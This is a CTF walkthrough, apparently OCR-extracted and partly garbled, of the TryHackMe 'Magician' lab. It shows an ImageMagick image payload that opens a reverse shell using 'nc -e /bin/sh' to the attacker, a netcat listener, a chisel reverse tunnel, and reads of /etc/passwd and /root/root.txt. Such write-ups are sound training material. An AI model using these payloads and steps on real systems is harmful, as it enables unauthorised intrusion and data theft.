Blue Flower

Magician WriteUp

## <ins> **Magician TryHackMe Walkthrough** </ins>


<p style='text-align: right;'> ~ l0lt3under </p>

**<p style='text-align: right;'> 65 minRead** </p>


Welcome to this beginner's adventure! , this was an easy box from TryHackMe, aptly named *"magican"*.

**Let's Begin!!**


1. Victim IPis ****
2. Attacker IP is ****
3. Please make sure to add**"magican"** in your **/etc/hosts** file otherwise it will not work.

let's start by adding an entry to /etc/hosts ,


So , let's not waste any time and fire up our nmap scan as part of our enumeration!
I won't explain nmap here but you can check out an awesome reference [here](

`sudo nmap -sC -sV -A -T4 -oA nmap/initial_scan -vvv `

we get :

#### :

| Port | State | Service | Version |
| 21/tcp | open | *ftp* | vsftpd 2.0.8 or later |
| 8080/tcp | open | *http-proxy* |   |
| 8081/tcp | open | *http*| nginx 1.14.0 |

*Full dump  **[here](***

So , we see two web server *like* ports open let's have a look in the browser.


We can see  that we get a error at port 8080! shoot , well tough luck , let's try another port ie. 8081 at **http://magician:8081**


we see an application load up on this port! Nice!

It says it's a **"PNG to JPG converter"** , now here if you are a beginner motivated to learn , i would give all that opportunity!

#### Links to Learn From!:
- try to understand :
- (Further learning)

I would serously recommend reading up on above links before continuing , it'll really help cement a LOT of concepts we're about to use!

OKAY, so assuming you've been a good and curious student 😉 ,  let's go ahead with our pentest .

google **"PNG to JPG converter exploit "**, to see of some known vulnerabilities known for this *application/software/implementation* , you should see something like this,


wow , that's a lot of weird references to something called **"ImageMagick"**, let's research first what it is!

just google **"ImageMagick"** to learn more about it

##### There is a lot of info about it [here](


So , now that we have some general idea about what exactly this piece of software is , let's start finding issues in it , after a simple google search about **"common php vulnerabilities"** , we notice that we have something called **"insecure file upload"** in *PHP*.

Now, here comes another chance , to learn about aa truy amazing resource on the internet which i will come back to later **[GO HERE](**

now , back on topic let's google , **"ImageMagick exploit"** to find any publicly available exploit code for it that *maybe* we can use.you will see several references to a popular exploit technique . one such is  [here](

let's inspire and challenge ourselfs and make our **own Exploit Code**

**push graphic-context
viewbox 0 0 640 480
fill 'url("|nc -e /bin/sh "6969)'
pop graphic-context**

write this in any text editor (sublime recommended) and save it as **reverse.png** if you don't understand what is going on , [READ](  .


then we open up a terminal on our **Attacker Machine** (Ubuntu in my case) and type the following :

`rlwrap nc -nlvp 6969`

*note : you can install rlwrap by running : `sudo apt install rlwrap` to learn more go [here](*

This will start a **listener** on our **Attacker Machine** which can receive connection back from a **Victim Machine**  .

then upload our **reverse.png** and look back in our terminal !!!  (type *"id"* in the terminal , if you do not see any output you are on the right path!)ERROR , something went horribly wrong and we did not get any connection back !! , did our amazing enumeration sills fail us??!

NOPE , as a matter of fact , our enumeration was dead on right and we just aren't using enough firepower here.

So , let's swicth gears , firstgoto **payload all the things** github repository. (Hint: i have already shared the link above , find it! )

Now try to find an **ImageMagick** related folder or payload ,

after using our carefully honed skills we will land on this specific shellcode to act as our payload :


Inside this folder , we are going to choose the netcat payload because that is the tool we are using to establish a connection to the victim, :


Make a file called **shell.png** and load our payload in it and open it up in any text editor then change it's LOCAL_IP and LOCAL_PORT to that of the **Attacker Machine** , so that the  **Victim Machine** knows who are the divine masters calling it remotly .


we can easily see a lot of input confusion and [piping]( is going on here , i will not explain this code , that will be your **homework**.next we just check if our netcat setup is running and if everything is ready , we start to upload this file on http://magician:8081

immediatly after uploading (assuming inside shell.png you correct tryhackme tun0 IP is mentioned) you'll see a shell pop up on your system!


so here's another piece of advice , the shell you have access to now is not like your typical ssh shell , cause it is extremly unstable and we shouldrun some cmds to make sure it stable enough to use.

run these commands in this exact order in your newly accquired shell session :

`CTRL + Z`
`stty raw -echo; fg`

After doing this you'll  be in your shell again , then run  :

`python -c 'import pty;pty.spawn("/bin/bash")'`
`export TERM=xterm`

After you have ran these cmds in the order shown above , youshould have a fairly stable shell to work with.


now goto /home/magician

`cd /home/magician`

`ls -llah`


Finally , we can see a **user.txt** flag on the system!!!

let's read it

`cat user.txt`BUT wait ! , there is something else , something magical that is going on!! , we can also see a file called **"the_magic_continues"**!

let's try reading it !

`cat the_magic_continues`


hmm, it says there is a port on the system?? a cat software running ?? there are a lot of unanswered questions , it looks like this file won't be of much help , let's try some basic linux information gathering.

`find / -perm 4000 -type f -exec ls -la {} 2>/dev/null \;` run this to find weird files with weird permissions

we see we get no output , NEXT!

`cat /etc/crontab`

we see nothing worth looking into 😫

`crontab -l`

we see that there are no crontabs for our currently compromised user

Now , let's get to my favorite part which is lateral movement and network exploitation .`netstat -tulpn | grep LISTEN`

this command will show us active tunnels and connections and is seriously something you should note down in your notebook!


all these ports look normal 53 is DNS , we saw 8081 before in our nmap scan and 8080 is running a web service and 21 has the ftp service , so there is only one in this crowrd who is unaccounted for and that is **6666** .

`telnet 6666`


but if we try to access it we are not able to !!!!

Now , again , it is time to learn again !!

Follow the below links and come back when your research is complete:

if you lack networking skills then,

- [Networking](
- [Basic Security Theory](

OKAY, so from now on im going to be assuming that you have general idea about a nifty tool called **chisel** and know about bridgeing and tuneling networks in computers a little.Again , there is no pressure , learn at your own pace


Okay , you should be done by now , so here is how it's goona go .

we'll create a tunnel between , the  **Victim Machine**'s IP at port 6666 to one of our ports becuase we are on the same extrenal network , as long as  one of theusers on the  **Victim Machine**  does this there should be no problem with this kind of attack.

we'll use a industry standard tool for this called **Chisel** .

Download [Chisel]( and compile it by running `go build  ` in its folder/directory.([Setup for GO](

You should now see a compiled binary file for chisel!

Next , we'll setup a simple Python3 http server  and force our victim to download our freshly compiled chisel binary through our shell that we have on the **Victim Machine**.

switch to a directory you have control over  , then
`git clone`

`cd chisel``go build`

`sudo python3 -m http.server 5555`

if using python 2 then : `python2 -m SimpleHTTPServer 5555`

Then on the **Victim Machine** on the shell , we do ,



The chisel binary will download on the victim machine.

now run the following cmds to see some magic happen!!

On **Victim Machine** :-

`chmod +x chisel`

On **Attacker Machine** :-

`./chisel server --reverse --port 4343`On **Victim Machine** :-

`./chisel client R:4433:`

You should see a output on the shell , similar to this


Without touching any of your shells and terminal , open a browser and goto **http://Attacker_IP:4433**

You should see something amazing pop-up!!!Finally , we saw what was on that port!

Next let's see what this application actually does

type `/etc/passwd`

and hit Submit a few times until you seethe following string in the output :

 This is a common cypher known as **Base64**.
 You can decode it in many ways i'll leave that part to you :
list:x:38:38:Mailing List Manager:/var/list:/usr/sbin/nologin
gnats:x:41:41:Gnats Bug-Reporting System (admin):/var/lib/gnats:/usr/sbin/nologin
systemd-network:x:100:102:systemd Network Management,,,:/run/systemd/netif:/usr/sbin/nologin
systemd-resolve:x:101:103:systemd Resolver,,,:/run/systemd/resolve:/usr/sbin/nologin
ftp:x:111:113:ftp daemon,,,:/srv/ftp:/usr/sbin/nologin**

This is the decrypted Output , thereis some interesting stuff here , but it is clearly not what we were looking for.

According to the TryHackMe page for this machine , we need to read a file called **root.txt**
which is protected by the root user.

so , let's try `/root/root.txt`

and hit submit a few times to see if we can get a base64 for this file

After hitting Submit a few times we see the following as the output:


Now goto a websitecalled [CyberChef](

and paste the above string in the input

and then click on a magic wand that pops up on the output panel

and we get the FLAG!!!


That's itsubmit both the flags on TryHackMe and you are done!!!

That's it from me 😎